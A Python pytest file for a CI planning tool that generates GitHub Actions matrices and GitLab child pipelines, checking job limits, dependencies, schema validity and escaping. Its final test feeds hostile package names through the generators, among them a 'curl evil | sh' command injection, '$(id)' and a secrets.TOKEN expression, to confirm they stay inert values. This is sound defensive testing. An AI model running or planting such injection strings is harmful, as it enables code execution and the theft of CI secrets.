"""GitHub's matrices and GitLab's child pipelines: what they say, and that the forges' own limits hold."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections import Counter
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pytest
import yaml  # type: ignore[import-untyped]
from hypothesis import given
from hypothesis import strategies as st

from support.builds import build_of, one_job_each, packed, planned_jobs, some_builds
from support.pages import ROOT
from wheelyard.ci import MOST_WHEELS, Capacity, Layout, Limits, Matrix, PackageBuild, matrices, pack, pipelines
from wheelyard.ci.outcome import parse_job_spec
from wheelyard.cli.ci_plan import github_outputs
from wheelyard.core.errors import PlanError

if TYPE_CHECKING:
    from pathlib import Path

    from syrupy.assertion import SnapshotAssertion

LIMITS = Limits(jobs=450, needs=50, tags=("riscv64",), label="ubuntu-24.04-riscv")
SITE = Capacity(8, 60)
NIGHT = (
    build_of("numpy", 1500, 1500, 1500),
    build_of("scipy", 4000, 4000, needs=["numpy"], runner="riscv-large"),
    build_of("pandas", 2500, needs=["numpy"], timed=False),
    build_of("markupsafe", 60, 60, 60, 60),
)
MANY = tuple(build_of(f"p{number:03}", 60) for number in range(300))


def children(layout: Layout, limits: Limits = LIMITS) -> list[dict[str, Any]]:
    """The child pipelines, read as GitLab reads them: by YAML 1.1."""
    return [yaml.safe_load(text) for text in pipelines(planned_jobs(layout), layout.needs, limits)]


def jobs(child: dict[str, Any]) -> dict[str, Any]:
    """Those that build."""
    return {name: value for name, value in child.items() if isinstance(value, dict) and "extends" in value}


# -------------------------------------------------------------------- github


def test_githubs_matrices(snapshot: SnapshotAssertion) -> None:
    assert matrices(planned_jobs(pack(NIGHT, SITE))) == snapshot


def test_zero_jobs_make_no_matrix() -> None:
    assert matrices(()) == ()


def test_three_hundred_jobs_make_two_matrices() -> None:
    found = matrices(planned_jobs(one_job_each(MANY, SITE)))
    assert [(each.name, len(each.include)) for each in found] == [("wave-1-rest-1", 256), ("wave-1-rest-2", 44)]


def test_a_matrix_is_no_larger_than_a_jobs_outputs() -> None:
    wide = [build_of("x" * 20_000 + str(number), 60) for number in range(50)]
    found = matrices(planned_jobs(one_job_each(wide, SITE)))
    assert len(found) > 1
    # docs.github.com, "Passing information between jobs": 1 MB, counted in UTF-16.
    assert all(len(each.text().encode("utf-16-le")) <= 1_000_000 for each in found)
    assert sum(len(each.include) for each in found) == 50


@given(some_builds())
def test_every_job_is_in_one_matrix_of_its_wave(builds: tuple[PackageBuild, ...]) -> None:
    layout = pack(builds, SITE)
    found = matrices(planned_jobs(layout))
    wave = {entry["name"]: each.wave for each in found for entry in each.include}
    gate = {entry["name"]: each.gate for each in found for entry in each.include}
    assert Counter(entry["name"] for each in found for entry in each.include) == Counter(
        job.name for job in layout.jobs
    )
    for number, wanted in enumerate(layout.needs):
        for other in wanted:
            assert wave[layout.jobs[other].name] < wave[layout.jobs[number].name]
            assert gate[layout.jobs[other].name]
    assert len({each.name for each in found}) == len(found)
    assert all(json.loads(each.text()) == json.loads(json.dumps({"include": each.include})) for each in found)


# -------------------------------------------------------------------- gitlab


def test_gitlabs_child_pipeline(snapshot: SnapshotAssertion) -> None:
    layout = pack(NIGHT, SITE)
    assert pipelines(planned_jobs(layout), layout.needs, LIMITS) == snapshot


def test_a_pipeline_of_nothing_has_a_job_all_the_same(snapshot: SnapshotAssertion) -> None:
    assert pipelines((), (), LIMITS) == snapshot


@given(some_builds(), st.integers(1, 60))
def test_what_hangs_together_is_in_one_pipeline(builds: tuple[PackageBuild, ...], most: int) -> None:
    layout = pack(builds, SITE)
    limits = Limits(most, 50, LIMITS.tags, LIMITS.label)
    try:
        found = children(layout, limits)
    except PlanError:
        assert len(layout.jobs) > most  # and what is told of it has a test of its own
        return
    if not layout.jobs:
        return
    assert Counter(name for child in found for name in jobs(child)) == Counter(job.name for job in layout.jobs)
    for child in found:
        assert 0 < len(jobs(child)) <= most
        for job in jobs(child).values():
            assert {need["job"] for need in job["needs"]} <= set(jobs(child))


def test_three_hundred_jobs_fit_into_what_the_server_takes() -> None:
    layout = one_job_each(MANY, SITE)
    assert [len(jobs(child)) for child in children(layout)] == [300]
    assert [len(jobs(child)) for child in children(layout, Limits(128, 50, ("riscv64",), ""))] == [128, 128, 44]


def test_too_many_needs_are_told() -> None:
    base = [build_of(f"base{number}", 60) for number in range(4)]
    layout = packed(*base, build_of("top", 60, needs=[each.package for each in base]))
    with pytest.raises(PlanError) as raised:
        pipelines(planned_jobs(layout), layout.needs, Limits(450, 3, ("riscv64",), ""))
    assert raised.value.what == "GitLab lets a job wait for 3 others at most"
    assert raised.value.details == ("top 1.0 cp312 waits for 4 jobs",)


def test_what_is_too_large_for_one_pipeline_is_told() -> None:
    layout = packed(build_of("base", 60), *(build_of(f"user{number}", 60, needs=["base"]) for number in range(5)))
    with pytest.raises(PlanError, match="6 jobs hang together, and one pipeline takes 4"):
        pipelines(planned_jobs(layout), layout.needs, Limits(4, 50, ("riscv64",), ""))


@pytest.mark.skipif(sys.platform != "linux", reason="the tool is for Linux")
@pytest.mark.parametrize("builds", [(), NIGHT, MANY], ids=["nothing", "a night", "three hundred"])
def test_a_child_pipeline_is_valid_by_gitlabs_own_schema(builds: tuple[PackageBuild, ...], tmp_path: Path) -> None:
    pytest.importorskip("check_jsonschema", reason="not on riscv64")
    layout = pack(builds, SITE)
    files = []
    for number, text in enumerate(pipelines(planned_jobs(layout), layout.needs, LIMITS)):
        files.append(tmp_path / f"{number}.yml")
        files[-1].write_text(text, encoding="utf-8")
    command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.gitlab-ci", *map(str, files)]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("artifacts", [False, True])
def test_a_job_collects_what_others_built_and_ends_as_its_build_does(tmp_path: Path, *, artifacts: bool) -> None:
    """Run as GitLab's shell runs it, with a stand-in for the command that notes how it was called."""
    child = children(packed(build_of("a", 60, 60), build_of("b", 60, 60, 60, needs=["a"], timed=False)))[0]
    (tmp_path / "ci").mkdir()
    stand_in = tmp_path / "ci/bootstrap"
    stand_in.write_text('#!/bin/sh\necho "$@" >> calls\ncase "$*" in *job*) exit 40;; esac\n')
    stand_in.chmod(0o755)
    env = {"WHEELYARD_ARTIFACT": "artifacts/b", "PATH": os.environ["PATH"]}
    if artifacts:
        (tmp_path / "artifacts/a").mkdir(parents=True)
    script = "\n".join(child[".build"]["script"])
    done = subprocess.run(["bash", "-eo", "pipefail", "-c", script], cwd=tmp_path, env=env, check=False)
    assert done.returncode == 40
    collected = ["wheelyard ci collect artifacts/a"] if artifacts else []
    assert (tmp_path / "calls").read_text().splitlines() == [*collected, "wheelyard ci run-job --out artifacts/b"]


def test_a_script_ends_while_there_is_time_to_bring_what_it_has_made() -> None:
    for job in jobs(children(pack(NIGHT, SITE))[0]).values():
        script = int(job["variables"]["RUNNER_SCRIPT_TIMEOUT"].removesuffix("m"))
        assert 0 < script <= int(job["timeout"].removesuffix(" minutes")) - 10
        assert job["variables"]["WHEELYARD_ARTIFACT"] + "/" in job["artifacts"]["paths"]


def test_what_a_job_is_told_is_what_the_command_reads() -> None:
    child = children(packed(build_of("a", 60, 60), build_of("b", 60, 60, 60, needs=["a"], timed=False)))[0]
    told = next(job for name, job in jobs(child).items() if name.startswith("b "))["variables"]["WHEELYARD_JOB"]
    planned_job = parse_job_spec(told)
    assert (planned_job.package, planned_job.version, planned_job.needs, planned_job.image) == (
        "b",
        "1.0",
        ("a",),
        "official",
    )
    assert planned_job.wheels == ("cp312", "cp313", "cp314")


def test_no_job_has_more_wheels_than_a_workflow_has_steps() -> None:
    """.github/workflows/part.yml writes them out."""
    wide = PackageBuild(
        "wide", "1.0", tuple(build_of("wide", 60, version=f"1.{n}").wheels[0] for n in range(20)), timed=False
    )
    found = pack((wide,), SITE)
    assert sum(len(job.wheels) for job in found.jobs) == 20
    assert max(len(job.wheels) for job in found.jobs) <= MOST_WHEELS
    part = yaml.safe_load((ROOT / ".github/workflows/part.yml").read_text(encoding="utf-8"))
    steps = [step for step in part["jobs"]["wheels"]["steps"] if step.get("uses") == "./ci/actions/wheel"]
    # Each builds its own wheel, whatever became of the one before.
    assert [(step["if"], step["with"]["number"]) for step in steps] == [
        (f"${{{{ !cancelled() && matrix.wheels[{number}] }}}}", number) for number in range(MOST_WHEELS)
    ]


def test_a_workflow_has_a_job_for_each_row() -> None:
    """.github/workflows/build.yml writes the waves out, and the report waits for all of them."""
    build = yaml.safe_load((ROOT / ".github/workflows/build.yml").read_text(encoding="utf-8"))["jobs"]
    chain = packed(*(build_of(f"p{n}", 60, needs=[f"p{n - 1}"] if n else []) for n in range(7)))
    plan: Any = SimpleNamespace(jobs=chain.jobs, matrices=matrices(planned_jobs(chain)))
    rows = {line.partition("=")[0] for line in github_outputs(plan)} - {"waves"}
    assert {"jobs", "wave-1-first", "wave-4-first", "deeper"} <= rows
    assert rows <= set(build["plan"]["outputs"])
    retries = {"retry-first", "retry-next", "retry-rest"}
    waves = {name for name, job in build.items() if "strategy" in job} - retries
    assert waves == set(build["plan"]["outputs"]) - {"jobs"}
    assert waves <= set(build["died"]["needs"])
    assert waves | retries <= set(build["report"]["needs"])
    assert {f"retry-{row}" for row in build["died"]["outputs"]} == retries


# ------------------------------------------------------------- hostile names

HOSTILE = [
    "a\nscript: [evil]",
    'a"; curl evil | sh #',
    "$(id)",
    "${{ secrets.TOKEN }}",
    "yes",
    "- a",
    "a: b",
    "é\u2028\x7f\x85\U0001f600",
    "*x &y !z",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_stays_a_value(name: str) -> None:
    layout = packed(build_of(name, 60), build_of("user", 60, needs=[name]))
    (child,) = children(layout)
    assert set(jobs(child)) == {f"{name} 1.0 cp312", "user 1.0 cp312"}
    assert f"dist/{name}/1.0/unchecked/" in jobs(child)[f"{name} 1.0 cp312"]["artifacts"]["paths"]
    assert json.loads(jobs(child)[f"{name} 1.0 cp312"]["variables"]["WHEELYARD_JOB"])["package"] == name
    words = [child[key] for key in set(child) - set(jobs(child))]
    assert name not in json.dumps([value.get("script") for value in words if isinstance(value, dict)])
    found: list[Matrix] = list(matrices(planned_jobs(layout)))
    for each in found:
        text = each.text()
        assert "\n" not in text
        assert text.isascii()
        assert json.loads(text)["include"]
